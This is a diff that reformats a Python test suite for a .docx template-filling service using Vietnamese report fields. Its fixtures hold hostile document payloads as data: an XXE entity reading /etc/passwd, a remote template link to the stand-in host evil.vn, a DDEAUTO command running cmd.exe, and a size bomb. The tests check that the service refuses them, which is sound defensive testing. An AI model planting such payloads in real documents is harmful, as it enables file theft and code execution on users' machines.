@@ -19,7 +19,9 @@ pytestmark = pytest.mark.once
 STAMP = datetime(2018, 12, 31, 7, tzinfo=UTC)
 SHAPE = {"ten": "", "nam": "", "muc": {"ty_le": "", "dat": ""}, "ds": [{"ma": "", "ten": ""}]}
 CONTEXT = {
-    "ten": "Kon <Tum> & {{ nam }}", "nam": "2018", "muc": {"ty_le": "49,92%", "dat": False},
+    "ten": "Kon <Tum> & {{ nam }}",
+    "nam": "2018",
+    "muc": {"ty_le": "49,92%", "dat": False},
     "ds": [{"ma": "A", "ten": "Đảng bộ A"}, {"ma": "B", "ten": "Đảng bộ B"}],
 }
 
@@ -37,8 +39,10 @@ def refused(content: bytes) -> list[str]:
 def test_fields_lists_and_conditions_are_filled():
     found = filled(
         "Năm {{ nam }}: {{ muc.ty_le }}{% if not muc.dat %}, chưa đạt{% endif %}",
-        "{%p for d in ds %}", "{{ loop.index }}. {{ d.ten }}{% if loop.last %}.{% endif %}",
-        "{%p endfor %}", header="Của {{ nam }}",
+        "{%p for d in ds %}",
+        "{{ loop.index }}. {{ d.ten }}{% if loop.last %}.{% endif %}",
+        "{%p endfor %}",
+        header="Của {{ nam }}",
     )
     assert "Năm 2018: 49,92%, chưa đạt" in found
     assert "1. Đảng bộ A\n2. Đảng bộ B." in found and "Của 2018" in found
@@ -76,7 +80,9 @@ def test_a_wrong_field_says_which_is_nearest_and_where():
 def test_faults_of_body_and_header_are_told_at_once():
     reasons = refused(document("{{ mot }}", "{{ hai }}", header="{{ ba }}"))
     assert [name for name in ("mot", "hai", "ba") if any(name in reason for reason in reasons)] == [
-        "mot", "hai", "ba"
+        "mot",
+        "hai",
+        "ba",
     ]
 
 
@@ -129,9 +135,11 @@ def test_a_template_in_the_properties_is_no_way_around():
 
 BOMB = b"<w:document>" + b" " * 70_000_000
 DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-EXTERNAL = (b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.vn/x.dotm" '
-            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
-            b"</Relationships>")
+EXTERNAL = (
+    b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.vn/x.dotm" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
+    b"</Relationships>"
+)
 DDE = b'<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p><w:sectPr'
 
 
@@ -160,8 +168,12 @@ def test_a_hostile_file_is_refused(parts, words):
 @pytest.mark.parametrize(
     ("content", "words"),
     [
-        (b"", ".docx"), (b"PK\x03\x04", ".docx"), (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99, ".doc"),
-        (b"%PDF-1.4", ".docx"), (document("x")[:2000], ".docx"), (b"0" * 11_000_000, "10 MB"),
+        (b"", ".docx"),
+        (b"PK\x03\x04", ".docx"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 99, ".doc"),
+        (b"%PDF-1.4", ".docx"),
+        (document("x")[:2000], ".docx"),
+        (b"0" * 11_000_000, "10 MB"),
     ],
 )
 def test_what_is_no_document_is_said_to_be_none(content, words):
@@ -187,15 +199,24 @@ def test_a_default_template_is_sound_and_made_by_its_script(kind):
 def test_a_default_template_is_laid_out_as_the_party_writes(kind):
     made = Document(BytesIO(default(kind)))
     section = made.sections[0]
-    sizes = [section.page_width.mm, section.page_height.mm, section.top_margin.mm,
-             section.bottom_margin.mm, section.left_margin.mm, section.right_margin.mm]
+    sizes = [
+        section.page_width.mm,
+        section.page_height.mm,
+        section.top_margin.mm,
+        section.bottom_margin.mm,
+        section.left_margin.mm,
+        section.right_margin.mm,
+    ]
     assert [round(size) for size in sizes] == [210, 297, 20, 20, 30, 15]
     normal = made.styles["Normal"].font
     assert (normal.name, normal.size.pt) == ("Times New Roman", 14)
     assert section.different_first_page_header_footer
     assert "PAGE" in section.header.paragraphs[0]._p.xml
-    assert {round(p.paragraph_format.first_line_indent.mm) for p in made.paragraphs
-            if p.paragraph_format.first_line_indent} == {10}
+    assert {
+        round(p.paragraph_format.first_line_indent.mm)
+        for p in made.paragraphs
+        if p.paragraph_format.first_line_indent
+    } == {10}
 
 
 def test_no_two_fields_have_one_name():
